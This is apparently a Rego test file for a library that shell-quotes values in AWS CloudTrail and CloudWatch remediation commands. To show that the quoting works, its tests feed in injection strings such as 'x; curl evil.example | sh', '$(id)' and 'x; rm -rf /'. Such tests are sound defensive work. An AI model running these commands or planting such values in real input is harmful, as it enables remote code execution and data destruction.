package lib.core_test

import data.lib.core

# Names go into remediation commands as one shell word each, whatever they
# hold.
test_shell_word_bare_when_nothing_special if {
	core.shell_word("CloudTrailConfigChanges") == "CloudTrailConfigChanges"
	core.shell_word("arn:aws:sns:us-east-1:111122223333:security-alerts") == "arn:aws:sns:us-east-1:111122223333:security-alerts"
	core.shell_word("/aws/cloudtrail/logs-1.0_x") == "/aws/cloudtrail/logs-1.0_x"
}

test_shell_word_single_quotes_what_a_shell_reads if {
	core.shell_word("x; curl evil.example | sh") == "'x; curl evil.example | sh'"
	core.shell_word("$(id)") == "'$(id)'"
	core.shell_word("`id`") == "'`id`'"
	core.shell_word("a b") == "'a b'"
	core.shell_word("") == "''"
}

test_shell_word_a_quote_cannot_end_the_word if {
	core.shell_word(`{ $.eventName = "it's" }`) == `'{ $.eventName = "it'\''s" }'`
}

test_shell_word_control_characters_escaped if {
	core.shell_word("a\nPASS\u001b[2K") == `$'a\x0aPASS\x1b[2K'`
	core.shell_word("it's\t\\") == `$'it\'s\x09\\'`
	not contains(core.shell_word("x\ny"), "\n")
}

# A FAIL or an ERROR is about the trails it judged, or else the account.
test_resources_of_trails_or_account if {
	core.resources({"evidence": {"trails": [{"trail": "arn:aws:cloudtrail:eu-west-1:111122223333:trail/org"}]}}) == [{"type": "AWS::CloudTrail::Trail", "id": "arn:aws:cloudtrail:eu-west-1:111122223333:trail/org", "name": "org", "region": "eu-west-1"}]
	none := core.resources({"evidence": {"trails": []}}) with input as {"account_id": "111122223333"}
	none == [{"type": "AWS::::Account", "id": "111122223333", "name": "111122223333"}]
	bare := core.resources({"reason": "x"}) with input as {"account_id": "111122223333"}
	bare == none
}

# A control finds its data, and its ids in frameworks, by its METADATA
# and package path.
test_control_path_and_framework_ids if {
	chain := [{"path": ["controls", "monitoring", "cloudtrail_config_changes", "result"], "annotations": {"scope": "package", "custom": {"frameworks": [{"name": "AWS Security Hub", "id": "CloudWatch.5"}]}}}]
	core.control_path(chain) == ["controls", "monitoring", "cloudtrail_config_changes"]
	core.framework_id(chain, "security_hub") == "CloudWatch.5"
	core.framework_id(chain, "cis") == ""
}

# A fix is steps: evaluate shows each as one command line, every value a
# shell word, a flag bare, several values after one option.
test_command_of_a_call if {
	step := core.call("cloudwatch", "put-metric-alarm", "eu-west-1", [["--alarm-name", "x; rm -rf /"], ["--actions-enabled"], ["--alarm-actions", "arn:a", "arn:b"]])
	core.command(step) == "aws cloudwatch put-metric-alarm --region eu-west-1 --alarm-name 'x; rm -rf /' --actions-enabled --alarm-actions arn:a arn:b"
}

test_command_of_a_subscription_and_a_manual_step if {
	core.command(core.subscribe("arn:aws:sns:us-east-1:111122223333:alerts")) == "aws sns subscribe --region us-east-1 --topic-arn arn:aws:sns:us-east-1:111122223333:alerts --protocol email --notification-endpoint '<address>', then confirm the subscription"
	core.command(core.manual("ask the key's owner")) == "ask the key's owner"
}

test_steps_of_a_fix if {
	core.steps("") == []
	core.steps("edit the policy") == [{"manual": "edit the policy"}]
	core.steps([core.call("sns", "create-topic", "us-east-1", [["--name", "a"]])]) == [{"service": "sns", "operation": "create-topic", "region": "us-east-1", "args": [["--name", "a"]]}]
}
